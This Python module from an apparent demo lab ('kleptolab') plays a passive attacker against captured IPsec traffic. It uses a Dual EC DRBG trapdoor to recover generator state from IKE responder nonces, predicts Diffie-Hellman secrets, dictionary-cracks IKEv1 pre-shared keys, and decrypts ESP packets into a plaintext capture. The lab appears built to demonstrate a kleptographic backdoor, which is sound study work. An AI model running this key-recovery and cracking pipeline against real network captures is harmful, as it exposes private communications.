"""The passive attacker's half of a phase: the tap's pcap plus the trapdoor, nothing else.

:func:`run_attack` first recovers the Dual EC state behind each 32-byte
responder nonce one at a time (timed: the demo's recovery-work plot), then
runs the decryptor (:func:`kleptolab.attack.decryptor.decrypt_capture`),
which finds the states in the cache, writes the Wireshark key tables,
``plaintext.pcap`` and ``report.json``, and finally lines up what it
decrypted with what the clients sent, flow by flow.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from kleptolab.drbg.trapdoor import Trapdoor
from kleptolab.lab.model import KeyRecord, PlaintextPair, RecoveryWork, volatile
from kleptolab.lab.observe import ResponderValues, responder_values
from kleptolab.lab.victim import SessionRecord

__all__ = ["AttackOutcome", "run_attack"]

Say = Callable[[str, str], None]
Flow = tuple[str, int, str, int]


@dataclass
class AttackOutcome:
    """What the passive attacker got out of one phase's capture."""

    decrypted: bool
    reason: str
    report: dict[str, Any]
    observed: list[ResponderValues]
    recovery: list[RecoveryWork] = field(default_factory=list)
    keys: list[KeyRecord] = field(default_factory=list)
    plaintext: list[PlaintextPair] = field(default_factory=list)
    outputs: dict[str, Path] = field(default_factory=dict)
    timings: dict[str, Any] = field(default_factory=dict)
    """Wall-clock figures of the run (for timings.json; never in run.json or the report)."""


def _decrypted_flows(plaintext: Sequence[tuple[float, bytes]]) -> dict[Flow, bytes]:
    from kleptolab.netpkt import PROTO_UDP, PacketError, parse_ipv4, parse_udp

    flows: dict[Flow, bytes] = {}
    for _ts, packet in plaintext:
        try:
            ip = parse_ipv4(packet)
            if ip.proto != PROTO_UDP:
                continue
            udp = parse_udp(ip.payload, ip.src, ip.dst)
        except (PacketError, ValueError):
            continue
        flows.setdefault((ip.src, udp.sport, ip.dst, udp.dport), udp.payload)
    return flows


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def _failure_reason(report: dict[str, Any], observed: list[ResponderValues]) -> str:
    reasons = [s["failure"] for s in report.get("sessions", []) if s.get("failure")]
    if not observed:
        reasons.append("no IKE handshake with a clear responder nonce in the capture")
    unique = list(dict.fromkeys(reasons))
    return "; ".join(unique) if unique else "no ESP packet could be decrypted"


def _recovery_story(report: dict[str, Any], say: Say, seconds_by_session: dict[str, float]) -> list[RecoveryWork]:
    """One :class:`RecoveryWork` per 32-byte responder nonce, narrated, in capture order."""
    from kleptolab.attack.recovery import NONCE_SIZE, SPACE

    work = []
    sessions = sorted(report.get("sessions", []), key=lambda s: int(s.get("first_frame", 0)))
    short = {str(s.get("id")): f"#{k}" for k, s in enumerate(sessions, start=1)}
    for k, s in enumerate(sessions, start=1):
        sid = str(s.get("id"))
        label = f"IKEv{s.get('version')} #{k} ({sid[:8]}…)"
        if s.get("nonce_bytes") not in (None, NONCE_SIZE):
            say("attacker", f"{label}: responder nonce is {s['nonce_bytes']} bytes, not raw Dual EC "
                            "output: nothing to recover")
            continue
        rec = s.get("recovery")
        if not isinstance(rec, dict):
            continue
        states, seconds = int(rec.get("states", 0)), float(rec.get("seconds", 0.0))
        seconds_by_session[label] = seconds
        if rec.get("how") == "predicted":
            src = str(rec.get("from_session"))
            note = f"{short.get(src, src[:8])} draw +{rec.get('draw')}"
            say("attacker", f"{label}: Nr predicted by the walk from {short.get(src, src[:8])}'s state "
                            f"({rec.get('draw')} call(s) on): no sweep" + volatile(f" ({seconds * 1000:.0f} ms)"))
            work.append(RecoveryWork(label, 0, states, "predicted", note))
        elif rec.get("how") == "sweep":
            batch = int(rec.get("batch", 1))
            note = f"batch of {batch}" if batch > 1 else ""
            say("attacker", f"{label}: no earlier state predicts Nr: swept 2^16 prefixes"
                            + volatile(f" in {seconds:.2f} s")
                            + (f" (together with {batch - 1} other nonce(s))" if batch > 1 else "")
                            + f" → {states} candidate state(s)")
            work.append(RecoveryWork(label, SPACE, states, "sweep", note))
        else:
            work.append(RecoveryWork(label, 0, states, str(rec.get("how"))))
    return work


def run_attack(
    pcap: Path, trapdoor: Trapdoor, outdir: Path, sessions: Sequence[SessionRecord], *,
    psk: bytes | None, wordlist: Sequence[str] = (), workers: int | None = None, say: Say,
    progress: Callable[[str, int, int], None] | None = None,
) -> AttackOutcome:
    """Attack ``pcap`` with ``trapdoor``; outputs go to ``outdir`` (``progress``: the decryptor's ticks)."""
    from kleptolab.attack.decryptor import DecryptOptions, decrypt_capture
    from kleptolab.attack.engine import make_engine
    from kleptolab.attack.outputs import write_outputs
    from kleptolab.attack.recovery import StateCache

    engine = make_engine("local", workers)
    observed = responder_values(pcap)
    wordlist_bytes = tuple(w.encode() for w in wordlist) if psk is None else ()
    options = DecryptOptions(psk=psk, psk_wordlist=wordlist_bytes)
    if wordlist_bytes:
        say("attacker", f"IKEv1 PSK unknown: trying a {len(wordlist_bytes)}-word dictionary against "
                        "the recovered DH secret")
    say("attacker", f"responder nonces in capture order: sweep 2^16 prefixes only where no state "
                    f"recovered so far predicts the nonce ({len(observed)} IKE SAs in {pcap.name})")
    t0 = time.perf_counter()
    result = decrypt_capture(pcap, trapdoor, engine, StateCache(None), options, progress)
    recovery_seconds: dict[str, float] = {}
    recovery = _recovery_story(result.report, say, recovery_seconds)
    how = result.report.get("nonce_recovery", {})
    elapsed = time.perf_counter() - t0
    say("attacker", f"decryptor pass over {pcap.name}:" + volatile(f" {elapsed:.2f} s")
                    + f" ({how.get('sweep', 0)} sweep(s), {how.get('predicted', 0)} nonce(s) predicted)")
    stable, volatile_report = split_report(result.report, pcap)
    outputs = write_outputs(outdir, ikev1=result.ikev1, ikev2=result.ikev2, esp=result.esp,
                            plaintext=result.plaintext, report=stable)
    timings: dict[str, Any] = {"decrypt_s": round(elapsed, 3), "recovery_s": recovery_seconds,
                               "decrypt_report": volatile_report}

    keys: list[KeyRecord] = []
    for s in result.report.get("sessions", []):
        how = "DH private value predicted from the recovered Dual EC state"
        if s.get("unlocked_by"):
            how += f" (state recovered from session {str(s['unlocked_by'])[:8]}…)"
        psk_info = s.get("psk")
        if isinstance(psk_info, dict) and psk_info.get("source") == "cracked":
            how += f"; PSK cracked from the wordlist: {psk_info.get('value')!r}"
            say("attacker", f"IKEv1 SA {str(s['id'])[:8]}…: PSK cracked: {psk_info.get('value')!r}")
        for name, value in (s.get("keys") or {}).items():
            keys.append(KeyRecord(f"IKEv{s.get('version')} {str(s['id'])[:8]}…", name, str(value), how))
    for row in result.esp:
        label = f"ESP {row.spi.hex()} {row.src}→{row.dst}"
        keys.append(KeyRecord(label, f"{row.encr.name} key", row.encr_key.hex(), "child SA KEYMAT"))
        if row.integ is not None:
            keys.append(KeyRecord(label, f"{row.integ.name} key", row.integ_key.hex(), "child SA KEYMAT"))

    flows = _decrypted_flows(result.plaintext)
    pairs: list[PlaintextPair] = []
    total = matched = 0
    for record in sessions:
        for m in record.messages:
            total += 1
            got = flows.get((m.src, m.sport, m.dst, m.dport))
            matched += got == m.payload
            label = f"session {record.index + 1} (IKEv{record.version})"
            pairs.append(PlaintextPair(label, _text(m.payload), "" if got is None else _text(got)))
    decrypted = total > 0 and matched == total
    reason = (f"all {total} messages read from the capture" if decrypted
              else _failure_reason(result.report, observed))
    return AttackOutcome(decrypted, reason, result.report, observed, recovery, keys, pairs, outputs, timings)


_VOLATILE_KEYS = ("timings", "time_s", "seconds")


def split_report(report: dict[str, Any], pcap: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    """The decryptor's report without wall-clock figures (``capture`` as a file name), and those figures."""
    moved: dict[str, Any] = {}

    def strip(value: Any, path: str) -> Any:
        if isinstance(value, dict):
            kept = {}
            for key, item in value.items():
                if key in _VOLATILE_KEYS:
                    moved[f"{path}{key}"] = item
                else:
                    kept[key] = strip(item, f"{path}{key}.")
            return kept
        if isinstance(value, list):
            return [strip(item, f"{path}{n}.") for n, item in enumerate(value)]
        return value

    stable = strip(report, "")
    stable["capture"] = pcap.name
    return stable, moved
